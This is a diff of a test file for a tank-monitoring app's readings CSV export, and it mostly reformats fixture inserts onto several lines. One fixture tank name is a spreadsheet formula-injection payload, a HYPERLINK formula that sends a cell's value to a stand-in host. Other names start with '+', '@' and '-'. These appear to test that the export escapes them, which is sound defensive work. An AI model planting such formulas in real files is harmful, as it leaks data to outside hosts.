@@ -17,7 +17,14 @@ beforeAll(async () => {
   londonSite = await insertRow(t.ctx, 'sites', { organization_id: org.organizationId, name: 'Marrowfen riverside', time_zone: 'Europe/London' })
   tankId = await insertRow(t.ctx, 'tanks', tankValues(org.organizationId, londonSite, '=HYPERLINK("http://x.example/?q="&A1)'))
   const otherTank = await insertRow(t.ctx, 'tanks', tankValues(org.organizationId, londonSite, 'Shrimp rack, upper'))
-  const deviceId = await insertRow(t.ctx, 'devices', { organization_id: org.organizationId, tank_id: tankId, name: '+probe node', metrics: ['temperature'], interval_seconds: 60, token_hash: 'ab' })
+  const deviceId = await insertRow(t.ctx, 'devices', {
+    organization_id: org.organizationId,
+    tank_id: tankId,
+    name: '+probe node',
+    metrics: ['temperature'],
+    interval_seconds: 60,
+    token_hash: 'ab',
+  })
   const r = (tank: number, metric: string, time: string, value: number, source: string, sourceKey: string) =>
     insertReading(t.ctx, { tankId: tank, metric, time, value, source, sourceKey })
   await r(tankId, 'temperature', '2026-03-29T00:30:00Z', 25.5, 'device', `d:${deviceId}`)
@@ -29,15 +36,51 @@ beforeAll(async () => {
   // Outside every range asked for below.
   await r(tankId, 'temperature', '2026-12-01T00:00:00Z', 30, 'device', `d:${deviceId}`)
 
-  const rule = await insertRow(t.ctx, 'watch_rules', { organization_id: org.organizationId, site_id: londonSite, tank_id: tankId, name: 'Warm', severity: 'alarm', spec: JSON.stringify({ kind: 'above', metric: 'temperature', limit: 28 }) })
-  await insertRow(t.ctx, 'incidents', {
-    organization_id: org.organizationId, site_id: londonSite, tank_id: tankId, rule_id: rule, rule_kind: 'above', metric: 'temperature',
-    severity: 'alarm', title: 'Temperature above 28 °C', state: 'resolved', condition_since: '2026-03-29T00:55:00Z', opened_at: '2026-03-29T01:05:00Z',
-    first_value: 28.4, peak_value: 29.1, acknowledged_at: '2026-03-29T01:15:00Z', acknowledged_by: org.users.keeper.id,
-    acknowledge_note: '@heater stuck on, unplugged', resolved_at: '2026-03-29T02:00:00Z', resolved_by: org.users.owner.id, resolve_note: 'New heater, fitted by the shop electrician',
+  const rule = await insertRow(t.ctx, 'watch_rules', {
+    organization_id: org.organizationId,
+    site_id: londonSite,
+    tank_id: tankId,
+    name: 'Warm',
+    severity: 'alarm',
+    spec: JSON.stringify({ kind: 'above', metric: 'temperature', limit: 28 }),
   })
-  await insertRow(t.ctx, 'care_log', { organization_id: org.organizationId, tank_id: tankId, kind: 'water_change', at: '2026-10-25T01:10:00Z', user_id: org.users.keeper.id, text: '30 % change, "aged" water', values: JSON.stringify({ litres: 36 }) })
-  await insertRow(t.ctx, 'care_log', { organization_id: org.organizationId, tank_id: otherTank, kind: 'note', at: '2026-10-25T03:00:00Z', text: '-lid cleaned' })
+  await insertRow(t.ctx, 'incidents', {
+    organization_id: org.organizationId,
+    site_id: londonSite,
+    tank_id: tankId,
+    rule_id: rule,
+    rule_kind: 'above',
+    metric: 'temperature',
+    severity: 'alarm',
+    title: 'Temperature above 28 °C',
+    state: 'resolved',
+    condition_since: '2026-03-29T00:55:00Z',
+    opened_at: '2026-03-29T01:05:00Z',
+    first_value: 28.4,
+    peak_value: 29.1,
+    acknowledged_at: '2026-03-29T01:15:00Z',
+    acknowledged_by: org.users.keeper.id,
+    acknowledge_note: '@heater stuck on, unplugged',
+    resolved_at: '2026-03-29T02:00:00Z',
+    resolved_by: org.users.owner.id,
+    resolve_note: 'New heater, fitted by the shop electrician',
+  })
+  await insertRow(t.ctx, 'care_log', {
+    organization_id: org.organizationId,
+    tank_id: tankId,
+    kind: 'water_change',
+    at: '2026-10-25T01:10:00Z',
+    user_id: org.users.keeper.id,
+    text: '30 % change, "aged" water',
+    values: JSON.stringify({ litres: 36 }),
+  })
+  await insertRow(t.ctx, 'care_log', {
+    organization_id: org.organizationId,
+    tank_id: otherTank,
+    kind: 'note',
+    at: '2026-10-25T03:00:00Z',
+    text: '-lid cleaned',
+  })
   limitedViewer = await signedInUser(t.ctx, org.organizationId, 'viewer', `limited-${process.pid}@marrowfen.example`, [org.siteIds[0]!])
 })
 afterAll(() => t.close())
@@ -62,7 +105,12 @@ describe('readings CSV', () => {
 
   it('repeats the local hour when the clocks go back, told apart by the offset', async () => {
     const res = await get(`/tanks/${tankId}/exports/readings.csv?${autumn}`)
-    expect(res.text.split('\r\n').slice(1, 3).map((line) => line.split(',')[0])).toEqual(['2026-10-25T01:30:00+01:00', '2026-10-25T01:30:00+00:00'])
+    expect(
+      res.text
+        .split('\r\n')
+        .slice(1, 3)
+        .map((line) => line.split(',')[0]),
+    ).toEqual(['2026-10-25T01:30:00+01:00', '2026-10-25T01:30:00+00:00'])
   })
 
   it('covers every tank of a site, an import as its source', async () => {
